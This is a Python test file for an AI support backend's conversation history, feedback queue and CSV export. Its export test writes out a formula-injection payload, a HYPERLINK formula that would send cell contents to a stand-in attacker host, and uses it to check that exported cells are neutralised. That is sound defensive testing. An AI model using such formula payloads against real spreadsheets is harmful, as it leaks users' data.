"""Conversation history and feedback over HTTP: agents see and rate their own answers, admins review."""

from __future__ import annotations

import time

import httpx

from support import image_bytes


def ask(backend, text: str, headers=None, **visiondesk) -> dict:
    import base64

    uri = "data:image/png;base64," + base64.b64encode(image_bytes()).decode()
    resp = httpx.post(f"{backend.url}/v1/chat/completions", headers=headers or backend.headers, timeout=120, json={
        "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": uri}},
                                                  {"type": "text", "text": text}]}],
        "max_tokens": 5, "visiondesk": visiondesk})
    assert resp.status_code == 200, resp.text
    return resp.json()


def wait_for(fn, timeout: float = 10):
    deadline = time.monotonic() + timeout
    while True:
        value = fn()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(0.1)


def get(backend, path: str, headers=None, **params) -> httpx.Response:
    return httpx.get(f"{backend.url}{path}", headers=headers or backend.headers, params=params, timeout=30)


def test_agent_lists_and_reopens_conversations(backend):
    first = ask(backend, "Is this jacket waterproof?", domain="ecommerce")["visiondesk"]["conversation_id"]
    ask(backend, "And the price?", conversation_id=first, domain="ecommerce")
    listed = wait_for(lambda: [c for c in get(backend, "/v1/conversations").json() if c["id"] == first])
    assert listed and listed[0]["title"] == "Is this jacket waterproof?" and listed[0]["domain"] == "ecommerce"
    detail = wait_for(lambda: (d := get(backend, f"/v1/conversations/{first}").json()) and
                      len(d["messages"]) == 4 and d)
    assert [m["role"] for m in detail["messages"]] == ["user", "assistant", "user", "assistant"]
    assert detail["messages"][0]["image_hashes"] and detail["messages"][1]["request_id"].startswith("chatcmpl-")
    # An admin may read it; another agent may not even see that it exists.
    assert get(backend, f"/v1/conversations/{first}", backend.admin_headers).status_code == 200
    assert get(backend, "/v1/conversations/does-not-exist").status_code == 404


def test_feedback_is_stored_and_reviewed(backend):
    answer = ask(backend, "Can I return opened headphones?")
    request_id = answer["visiondesk"]["request_id"]
    wait_for(lambda: get(backend, f"/v1/conversations/{answer['visiondesk']['conversation_id']}").status_code == 200)
    given = httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30, json={
        "request_id": request_id, "rating": "down", "reasons": ["wrong_facts"],
        "corrected_answer": "Opened headphones can be returned within 14 days [1].", "flagged": True})
    assert given.status_code == 201, given.text
    feedback_id = given.json()["id"]

    queue = get(backend, "/v1/feedback", backend.admin_headers, flagged=True, status="open").json()
    item = next(f for f in queue if f["id"] == feedback_id)
    assert item["rating"] == "down" and item["reasons"] == ["wrong_facts"]
    assert item["question"] == "Can I return opened headphones?"
    assert item["answer"] == answer["choices"][0]["message"]["content"]
    assert item["corrected_answer"].startswith("Opened headphones")

    resolved = httpx.patch(f"{backend.url}/v1/feedback/{feedback_id}", headers=backend.admin_headers, timeout=30,
                           json={"status": "resolved"})
    assert resolved.json()["status"] == "resolved"
    assert all(f["id"] != feedback_id for f in get(backend, "/v1/feedback", backend.admin_headers,
                                                     status="open").json())


def test_feedback_errors_are_clear(backend):
    unknown = httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30,
                         json={"request_id": "chatcmpl-nope", "rating": "up"})
    assert unknown.status_code == 404 and "no answered request" in unknown.json()["error"]["message"]
    request_id = ask(backend, "hello")["visiondesk"]["request_id"]
    empty = wait_for(lambda: (r := httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30,
                                              json={"request_id": request_id})).status_code != 404 and r)
    assert empty.status_code == 400 and "needs a rating" in empty.json()["error"]["message"]
    bad = httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30,
                     json={"request_id": request_id, "rating": "meh"})
    assert bad.status_code == 400 and bad.json()["error"]["param"] == "rating"


def test_feedback_csv_export_neutralises_formulas_and_redacts(backend):
    import csv
    import io

    request_id = ask(backend, "=1+2 what is my order status?")["visiondesk"]["request_id"]
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    given = wait_for(lambda: (r := httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30, json={
        "request_id": request_id, "rating": "down", "comment": hostile,
        "corrected_answer": "@SUM(1,1) call me on 13812345678"})).status_code != 404 and r)
    assert given.status_code == 201, given.text
    resp = get(backend, "/v1/feedback/export.csv", backend.admin_headers)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    assert "attachment" in resp.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(resp.text.lstrip("\ufeff"))))
    row = next(r for r in rows if r["request_id"] == request_id)
    assert row["comment"] == "'" + hostile  # kept, but a spreadsheet shows it as text
    assert row["question"].startswith("'=1+2")
    assert row["corrected_answer"].startswith("'@SUM") and "13812345678" not in row["corrected_answer"]
    assert row["rating"] == "down"  # ordinary cells are untouched
    # agents may not export; the route carries a role check
    assert get(backend, "/v1/feedback/export.csv").status_code == 403
